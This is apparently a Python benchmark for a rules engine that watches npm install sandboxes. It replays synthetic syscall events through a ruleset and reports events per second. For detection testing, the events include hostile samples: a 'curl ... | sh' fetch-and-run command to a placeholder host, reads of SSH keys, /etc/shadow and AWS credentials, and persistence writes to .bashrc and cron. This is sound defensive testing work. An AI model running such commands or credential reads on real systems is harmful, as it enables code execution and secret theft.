"""Rules-engine throughput: replay a generated stream of realistic events through a 30-rule ruleset.

Prints events/s and the per-event cost next to a baseline measured in the same run (iterating the
same events and doing nothing), as ratios. Target: >= 250,000 events/s on one core.

    .venv/bin/python benchmarks/engine.py [--events 1000000] [--seed 7] [--profile]
"""

from __future__ import annotations

import argparse
import gc
import random
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))

from tracehound.events import Event, Fd, PackageRef, Process
from tracehound.rules import load

RULES = Path(__file__).with_name("engine_rules.yaml")
BASE_TS = 1_767_225_600_000_000_000  # 2026-01-01T00:00:00Z

PACKAGES = [PackageRef(n, v, "npm") for n, v in [("left-pad", "1.3.0"), ("lodash", "4.17.21"),
                                                  ("esbuild", "0.20.1"), ("sharp", "0.33.2"),
                                                  ("evil-helper", "0.0.3"), ("node-gyp", "10.0.1")]]

# (comm, exe, exepath, args) of processes an npm install typically runs
PROGRAMS = [
    ("node", "node", "/usr/bin/node", ["install.js"]),
    ("node", "node", "/usr/bin/node", ["scripts/postinstall.js"]),
    ("sh", "sh", "/bin/sh", ["-c", "node-gyp", "rebuild"]),
    ("sh", "sh", "/bin/sh", ["-c", "node", "install.js"]),
    ("sh", "sh", "/bin/sh", ["-c", "prebuild-install", "||", "node-gyp", "rebuild"]),
    ("make", "make", "/usr/bin/make", ["-C", "build", "BUILDTYPE=Release"]),
    ("g++", "g++", "/usr/bin/g++", ["-o", "Release/obj.target/binding.o", "-c", "../src/binding.cc"]),
    ("python3", "python3", "/usr/bin/python3", ["/usr/lib/node_modules/npm/node_modules/node-gyp/gyp_main.py"]),
    ("git", "git", "/usr/bin/git", ["rev-parse", "HEAD"]),
    ("cat", "cat", "/usr/bin/cat", ["/etc/os-release"]),
]
# what a malicious install hook runs; each tree has a few, picked for a small share of events
SUSPICIOUS_PROGRAMS = [
    ("curl", "curl", "/usr/bin/curl", ["-fsSL", "https://example.invalid/x.sh"]),
    ("whoami", "whoami", "/usr/bin/whoami", []),
    ("sh", "sh", "/bin/sh", ["-c", "curl -s https://example.invalid/p | sh"]),
    ("uname", "uname", "/usr/bin/uname", ["-a"]),
]

FILES_READ = (
    [f"/work/node_modules/{p}/{f}" for p in ("lodash", "left-pad", "esbuild", "sharp", "node-gyp", "semver", "debug")
     for f in ("package.json", "index.js", "lib/util.js", "README.md", "dist/index.cjs")]
    + ["/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
       "/etc/passwd", "/etc/nsswitch.conf", "/etc/resolv.conf", "/etc/hosts", "/proc/self/maps",
       "/proc/self/environ", "/proc/cpuinfo", "/usr/share/zoneinfo/UTC", "/root/.gitconfig",
       "/usr/lib/node_modules/npm/package.json", "/tmp/npm-1234/cache/index-v5/ab/cd"]
)
FILES_WRITE = (
    [f"/work/node_modules/{p}/{f}" for p in ("lodash", "left-pad", "esbuild", "sharp")
     for f in ("package.json", "index.js", ".package-lock.json")]
    + ["/root/.npm/_cacache/tmp/1a2b3c", "/tmp/npm-1234/build.log", "/work/build/Release/binding.node",
       "/root/.npm/_logs/debug-0.log"]
)
SUSPICIOUS_READS = ["/root/.ssh/id_rsa", "/etc/shadow", "/home/dev/.ssh/id_ed25519", "/root/.aws/credentials",
                    "/proc/1/environ"]
SUSPICIOUS_WRITES = ["/root/.bashrc", "/usr/local/bin/node-helper", "/etc/cron.d/job"]
REMOTE = [("104.16.2.35", 443, "registry.npmjs.org"), ("140.82.114.4", 443, "github.com"),
          ("10.0.2.3", 53, None), ("127.0.0.1", 8080, None), ("169.254.169.254", 80, None),
          ("45.9.148.117", 3333, None)]


def make_tree(rng: random.Random, sandbox: int) -> list[Process]:
    """A sandbox's process tree: bwrap -> npm -> node -> children of install scripts."""
    pid = 1000 + sandbox * 500
    init = Process(pid=pid, comm="bwrap", exe="bwrap", exepath="/usr/bin/bwrap", args=["--unshare-all"],
                   uid=0, user="root", start_ts=BASE_TS, vpid=1, cwd="/work")
    npm = Process(pid=pid + 1, comm="npm", exe="npm", exepath="/usr/bin/node", args=["install", "--no-audit"],
                  parent=init, uid=0, user="root", start_ts=BASE_TS + 1_000, vpid=2, cwd="/work",
                  env={"npm_lifecycle_event": "install"})
    procs = [npm]
    for i in range(40 + len(SUSPICIOUS_PROGRAMS)):
        parent = rng.choice(procs)
        comm, exe, exepath, args = PROGRAMS[i % len(PROGRAMS)] if i < 40 else SUSPICIOUS_PROGRAMS[i - 40]
        p = Process(pid=pid + 2 + i, comm=comm, exe=exe, exepath=exepath, args=list(args), parent=parent, uid=0,
                    user="root", start_ts=BASE_TS + 2_000_000 * i, vpid=3 + i, cwd="/work",
                    exe_from_memfd=False, exe_upper_layer=False)
        procs.append(p)
    return procs


def generate(n: int, seed: int) -> list[Event]:
    rng = random.Random(seed)
    trees = [make_tree(rng, s) for s in range(25)]
    fds_read = [Fd(3 + i % 20, "file", f) for i, f in enumerate(FILES_READ)]
    fds_write = [Fd(5 + i % 20, "file", f) for i, f in enumerate(FILES_WRITE)]
    fds_bad_read = [Fd(9, "file", f) for f in SUSPICIOUS_READS]
    fds_bad_write = [Fd(9, "file", f) for f in SUSPICIOUS_WRITES]
    socks = [Fd(7, "ipv4" if ":" not in ip else "ipv6", f"172.17.0.2:{40000 + k}->{ip}:{port}", l4proto="tcp",
                cip="172.17.0.2", cport=40000 + k, sip=ip, sport=port, sip_name=name, is_server=False,
                connected=True) for k, (ip, port, name) in enumerate(REMOTE)]
    rd = {"flags": "O_RDONLY|O_CLOEXEC"}
    wr = {"flags": "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC", "mode": 0o644}
    # cumulative mix: (weight, kind)
    mix = [(38, "open_r"), (7, "open_w"), (15, "stat"), (10, "close"), (10, "read"), (7, "write"), (4, "execve"),
           (4, "connect"), (2, "socket"), (1, "unlink"), (1, "chmod"), (1, "mkdir")]
    kinds = [k for w, k in mix for _ in range(w)]
    events: list[Event] = []
    ts = BASE_TS + 10_000_000_000
    for num in range(1, n + 1):
        tree = trees[num % 25]
        rare = rng.random() < 0.002
        benign = len(tree) - len(SUSPICIOUS_PROGRAMS)
        proc = tree[benign + rng.randrange(len(SUSPICIOUS_PROGRAMS))] if rare else tree[rng.randrange(benign)]
        pkg = PACKAGES[num % len(PACKAGES)]
        kind = kinds[rng.randrange(len(kinds))]
        ts += 1_000 + rng.randrange(5_000)
        cid, cname = f"th{num % 25:04d}", f"tracehound-run-{num % 25}"
        if kind == "open_r":
            fd = rng.choice(fds_bad_read) if rare else fds_read[rng.randrange(len(fds_read))]
            e = Event(num, ts, "openat", proc, res=fd.num, args=rd, fd=fd)
        elif kind == "open_w":
            fd = rng.choice(fds_bad_write) if rare else fds_write[rng.randrange(len(fds_write))]
            e = Event(num, ts, "openat", proc, res=fd.num, args=wr, fd=fd)
        elif kind == "stat":
            e = Event(num, ts, "newfstatat", proc, res=0, args={"path": FILES_READ[num % len(FILES_READ)]})
        elif kind == "close":
            e = Event(num, ts, "close", proc, res=0, fd=fds_read[num % len(fds_read)])
        elif kind == "read":
            e = Event(num, ts, "read", proc, res=512, fd=fds_read[num % len(fds_read)])
        elif kind == "write":
            e = Event(num, ts, "write", proc, res=128, fd=fds_write[num % len(fds_write)])
        elif kind == "execve":
            e = Event(num, ts, "execve", proc, res=0)
        elif kind == "connect":
            fd = socks[rng.randrange(len(socks))] if rare else socks[0 if num % 10 else 1]
            e = Event(num, ts, "connect", proc, res=0, fd=fd)
        elif kind == "socket":
            e = Event(num, ts, "socket", proc, res=7, args={"domain": "AF_INET", "type": "SOCK_STREAM"})
        elif kind == "unlink":
            e = Event(num, ts, "unlinkat", proc, res=0, args={"name": "/tmp/npm-1234/x.tgz"})
        elif kind == "chmod":
            e = Event(num, ts, "fchmodat", proc, res=0, args={"filename": "/work/node_modules/.bin/esbuild",
                                                               "mode": "S_IXUSR|S_IRUSR|S_IWUSR"})
        else:
            e = Event(num, ts, "mkdirat", proc, res=0, args={"path": "/work/node_modules/lodash"})
        e.container_id, e.container_name, e.pkg, e.phase = cid, cname, pkg, "install"
        events.append(e)
    return events


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--profile", action="store_true", help="run the engine pass under cProfile")
    ap.add_argument("--rules", action="append", help="rule file or directory to use instead of engine_rules.yaml "
                    "(repeatable, e.g. Falco's stock files)")
    args = ap.parse_args()

    t = time.perf_counter()
    rs = load(args.rules or [RULES], hostname="bench")
    t_load = time.perf_counter() - t
    active = rs.enabled_rules()
    print(f"ruleset: {len(rs.rules)} rules ({len(active)} active), {len(rs.macros)} macros, {len(rs.lists)} lists, "
          f"{len(rs.evttypes())} evt.types; loaded+compiled in {t_load * 1000:.1f} ms")
    t = time.perf_counter()
    events = generate(args.events, args.seed)
    print(f"generated {len(events):,} events in {time.perf_counter() - t:.1f} s")
    gc.collect()
    gc.disable()

    def baseline() -> float:
        t0 = time.perf_counter()
        for _e in events:
            pass
        return time.perf_counter() - t0

    match = rs.match

    def engine() -> tuple[float, int]:
        n_alerts = 0
        t0 = time.perf_counter()
        for e in events:
            if match(e):
                n_alerts += 1
        return time.perf_counter() - t0, n_alerts

    if args.profile:
        import cProfile
        import pstats

        cProfile.runctx("engine()", globals(), locals(), "/tmp/engine.prof")
        pstats.Stats("/tmp/engine.prof").sort_stats("tottime").print_stats(15)
        return

    base = min(baseline() for _ in range(3))
    runs = [engine() for _ in range(3)]
    eng = min(r[0] for r in runs)
    alerts = runs[0][1]
    gc.enable()
    n = len(events)
    eps = n / eng
    print(f"baseline (iterate, do nothing): {base / n * 1e9:8.1f} ns/event  {n / base:14,.0f} events/s")
    print(f"engine   (ruleset.match):       {eng / n * 1e9:8.1f} ns/event  {eps:14,.0f} events/s")
    print(f"engine cost over baseline:      {(eng - base) / n * 1e9:8.1f} ns/event  ratio engine/baseline = "
          f"{eng / base:.1f}x")
    print(f"events with alerts: {alerts:,} ({alerts / n:.3%})")
    print(f"target 250,000 events/s: {'met' if eps >= 250_000 else 'NOT met'} ({eps / 250_000:.2f}x of target)")


if __name__ == "__main__":
    main()
